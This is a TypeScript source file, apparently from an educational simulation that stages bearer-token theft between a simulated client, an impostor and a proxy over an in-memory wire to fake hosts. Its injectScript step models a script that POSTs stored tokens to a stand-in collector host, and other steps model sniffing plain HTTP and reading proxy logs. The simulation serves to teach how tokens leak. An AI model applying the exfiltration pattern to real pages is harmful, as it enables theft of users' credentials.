import { createActor } from 'xstate';
import { findBearerToken, injectedScript, type ClientStorage } from './client/theft.ts';
import {
  askForList,
  askForToken,
  giveBack,
  logIn,
  logOut,
  tokenIn,
  type Prepared,
} from './client/requests.ts';
import type { Env } from './env.ts';
import { clientMachine, type ClientEffect, type ClientEvent } from './machines/client.ts';
import { impostorMachine } from './machines/impostor.ts';
import { Witness } from './machines/observe.ts';
import type { TokenServer } from './server/app.ts';
import type { Fact, Instruction, NewEntry, Recorder, RequestEntry, StoreName } from './trace.ts';
import { CookieJar } from './wire/cookie-jar.ts';
import { decodedBasic } from './wire/text.ts';
import { createWire, type Received, type Wire } from './wire/wire.ts';

type Asks = Extract<
  Instruction,
  { say: string; do: 'ask' | 'identify' | 'log-in' | 'log-out' | 'give-back' }
>;
type Sender = 'client' | 'impostor';
const HOST = 'helicopters.example';
const COLLECTOR = 'collector.example';

const EVENT_OF: Record<
  Asks['do'],
  Exclude<ClientEvent['type'], 'BEGIN' | 'ANSWERED' | 'UNSENDABLE'>
> = {
  ask: 'ASK',
  identify: 'IDENTIFY',
  'log-in': 'LOG_IN',
  'log-out': 'LOG_OUT',
  'give-back': 'GIVE_BACK',
};

/** Runs instructions: drives the machines, fills their placeholders, and has all of it recorded. */
export class Runner {
  private readonly client;
  private readonly impostor;
  private readonly wire: Wire;
  private readonly storage: ClientStorage = new Map();
  private readonly jar: CookieJar;
  private born = { client: false, impostor: false };
  private sent = 0;
  private current = 'r1';
  private captured = '';
  private proxyLog = '';
  private collected = '';

  constructor(
    private readonly env: Env,
    private readonly trace: Recorder,
    server: Promise<TokenServer>,
    private way: string | null,
  ) {
    // Whoever asks first is told that it failed; with no one asking there is nothing to tell.
    server.catch(() => undefined);
    const message = (): string => this.current;
    this.client = new Witness('client', createActor(clientMachine), message, trace);
    this.impostor = new Witness('impostor', createActor(impostorMachine), message, trace);
    this.jar = new CookieJar((name, row) => {
      this.note({ kind: 'store', actor: 'client', store: 'cookie-jar', key: name, row });
      if (row) this.knows('client', 'session', String(row['value']), 'set');
    });
    this.wire = createWire({
      env,
      trace,
      hosts: {
        [HOST]: async (request, carried) => (await server).fetch(request, carried),
        [COLLECTOR]: async (request) => {
          this.collected = await request.text();
          this.knows('impostor', 'token', this.collected, 'script');
          return new Response(null, { status: 204 });
        },
      },
      eavesdropper: (text) => {
        this.captured = text;
        this.keeps('impostor', 'capture', { text });
      },
      proxy: (text) => {
        this.proxyLog = text;
        this.keeps('proxy', 'proxy-log', { text });
        const token = findBearerToken(text);
        if (token !== null) this.knows('proxy', 'token', token, 'logged');
      },
    });
  }

  /** The message under way, or the next one. */
  get message(): string {
    return this.current;
  }

  /** From here on the token is stolen in this way. */
  use(way: string | null): void {
    this.way = way;
  }

  /** Does as told, and returns when all that follows from it has happened. */
  async perform(input: Instruction): Promise<void> {
    if (input.do !== 'narrate') this.upcoming(input);
    this.note({ kind: 'input', actor: 'who' in input ? input.who : 'narrator', input });
    switch (input.do) {
      case 'begin':
        this.begin(input.who);
        return;
      case 'ask':
        await (input.who === 'client' ? this.clientSends(input) : this.impostorAsks(input));
        return;
      case 'identify':
      case 'log-in':
      case 'log-out':
      case 'give-back':
        await this.clientSends(input);
        return;
      case 'inject-script':
        await this.injectScript();
        return;
      case 'steal':
        this.steal();
        return;
      case 'wait':
        this.env.advance(input.seconds * 1000);
        this.note({ kind: 'clock', actor: 'clock', seconds: input.seconds });
        return;
      case 'narrate':
        this.note({
          kind: 'line',
          actor: 'narrator',
          speaker: 'narrator',
          code: input.say,
          params: {},
          unsent: [],
        });
    }
  }

  private upcoming(input: Instruction): void {
    this.current = `r${this.sent + 1}`;
    const asks = input.do !== 'begin' && input.do !== 'wait' && input.do !== 'steal';
    if (asks) this.sent++;
  }

  private begin(who: Sender): void {
    const actor = who === 'client' ? this.client : this.impostor;
    if (this.born[who]) actor.send({ type: 'BEGIN' });
    else {
      this.born = { ...this.born, [who]: true };
      actor.start();
    }
  }

  private async clientSends(input: Asks): Promise<void> {
    if (!this.born.client) this.begin('client');
    this.client.send({ type: EVENT_OF[input.do] });
    if (input.do === 'identify' || input.do === 'log-in') {
      if (input.password !== '') {
        this.knows('user', 'password', input.password, 'own');
        this.knows('client', 'password', input.password, 'told');
      }
    }
    const effect = effectOf(this.client.actor.getSnapshot());
    if (effect === null) return;
    const prepared = this.prepare(effect, input);
    if ('unsendable' in prepared) {
      this.client.send({ type: 'UNSENDABLE', reason: prepared.unsendable });
      return;
    }
    const received = await this.sends('client', prepared, input);
    const token = tokenIn(received.body);
    if (token !== null) {
      this.storage.set('token', token);
      this.knows('client', 'token', token, 'given');
      this.keeps('client', 'client-storage', { value: token }, 'token');
    }
    this.client.send({ type: 'ANSWERED', answer: { status: received.status, token } });
  }

  private async impostorAsks(input: Extract<Instruction, { do: 'ask' }>): Promise<void> {
    if (!this.born.impostor) this.begin('impostor');
    const { token } = this.impostor.actor.getSnapshot().context;
    this.impostor.send({ type: 'ASK' });
    const prepared = askForList(input.show === 'token' ? (input.text ?? token) : null);
    if ('unsendable' in prepared) return;
    const { status } = await this.sends('impostor', prepared, input);
    this.impostor.send({ type: 'ANSWERED', answer: { status } });
  }

  /** The request that a placeholder of the client's machine stands for. */
  private prepare(effect: ClientEffect, input: Asks): Prepared {
    const { token } = this.client.actor.getSnapshot().context;
    const who = input.do === 'identify' || input.do === 'log-in' ? input : null;
    switch (effect) {
      case 'askForList':
        return askForList(
          input.do === 'ask' && input.show === 'token' ? (input.text ?? token) : null,
        );
      case 'askForToken':
        return askForToken(who?.username ?? '', who?.password ?? '', who?.scope);
      case 'logIn':
        return logIn(who?.username ?? '', who?.password ?? '');
      case 'logOut':
        return logOut();
      case 'giveBack':
        return giveBack(token ?? '');
    }
  }

  private async sends(
    from: Sender,
    prepared: Exclude<Prepared, { unsendable: string }>,
    input: Asks,
  ): Promise<Received> {
    const over = (input.do === 'ask' ? input.over : undefined) ?? 'https';
    const received = await this.wire.send({
      from,
      to: 'api',
      message: this.current,
      over,
      method: prepared.method,
      headers: prepared.headers,
      body: prepared.body,
      url: `${over === 'http' ? 'http' : 'https'}://${HOST}${prepared.path}`,
      ...(from === 'client' && { jar: this.jar }),
      sent: (request) => {
        const params = this.said(from, input);
        this.note({
          kind: 'line',
          actor: from,
          speaker: 'unknown',
          code: input.say,
          params,
          unsent: unsent(params, request),
        });
      },
    });
    for (const line of received.lines)
      this.note({ kind: 'line', actor: 'api', speaker: 'api', ...line, unsent: [] });
    return received;
  }

  private said(from: Sender, input: Asks): Record<string, string> {
    const { token } = (from === 'client' ? this.client : this.impostor).actor.getSnapshot().context;
    if (input.do === 'identify' || input.do === 'log-in')
      return { name: input.name, username: input.username, password: input.password };
    if (input.do === 'ask')
      return input.show === 'token' ? { token: input.text ?? token ?? '' } : {};
    return input.do === 'give-back' ? { token: token ?? '' } : {};
  }

  private async injectScript(): Promise<void> {
    this.note({ kind: 'script', actor: 'client', code: 'injected' });
    const body = injectedScript(this.storage);
    if (body === null) return;
    await this.wire.send({
      from: 'client',
      to: 'impostor',
      message: this.current,
      method: 'POST',
      url: `https://${COLLECTOR}/`,
      headers: [['Content-Type', 'text/plain']],
      body,
      over: 'https',
    });
  }

  private steal(): void {
    if (!this.born.impostor) this.begin('impostor');
    const texts: Record<string, string> = { sniffed: this.captured, logged: this.proxyLog };
    const found =
      this.way === 'script' ? this.collected : findBearerToken(texts[this.way ?? ''] ?? '');
    const token = found === '' ? null : found;
    this.impostor.send({
      type: 'LOOKED',
      token,
      reason: token === null ? 'nothing' : (this.way ?? 'nothing'),
    });
    if (token !== null && this.way !== null) this.knows('impostor', 'token', token, this.way);
  }

  private note(entry: DistributiveOmit<NewEntry, 'message'>): void {
    this.trace.record({ message: this.current, ...entry });
  }
  private knows(
    party: 'user' | 'client' | 'impostor' | 'proxy',
    secret: 'password' | 'token' | 'session',
    value: string,
    how: string,
  ): void {
    this.note({ kind: 'known', actor: party, party, secret, value, how });
  }
  private keeps(
    actor: 'client' | 'impostor' | 'proxy',
    store: StoreName,
    row: Readonly<Record<string, Fact>>,
    key = this.current,
  ): void {
    this.note({ kind: 'store', actor, store, key, row });
  }
}
type DistributiveOmit<T, K extends PropertyKey> = T extends unknown ? Omit<T, K> : never;

/** The placeholder named by the state that a client's machine is in. */
function effectOf(snapshot: {
  getMeta(): Readonly<Record<string, { effect: ClientEffect } | undefined>>;
}): ClientEffect | null {
  const [meta] = Object.values(snapshot.getMeta());
  return meta?.effect ?? null;
}

/** Which of the things said stand nowhere in the request, not even encoded. */
function unsent(
  params: Readonly<Record<string, string>>,
  request: Omit<RequestEntry, 'n' | 'at'>,
): string[] {
  const names = Object.keys(params);
  if (names.length === 0) return names;
  // Most of what is said stands there in plain.
  const plain = [request.body ?? '', ...request.headers.map(([, value]) => value)];
  const hidden = names.filter((name) => !plain.some((one) => one.includes(params[name] ?? '')));
  if (hidden.length === 0) return hidden;
  const sent = [decodedBasic(request.headers) ?? '', ...bodyValues(request.body ?? '')];
  return hidden.filter((name) => !sent.some((one) => one.includes(params[name] ?? '')));
}

/** The values in a body, JSON or form, as they were before they were encoded. */
function bodyValues(body: string): string[] {
  if (!body.startsWith('{')) return [...new URLSearchParams(body).values()];
  return Object.values(JSON.parse(body) as Record<string, unknown>).map(String);
}
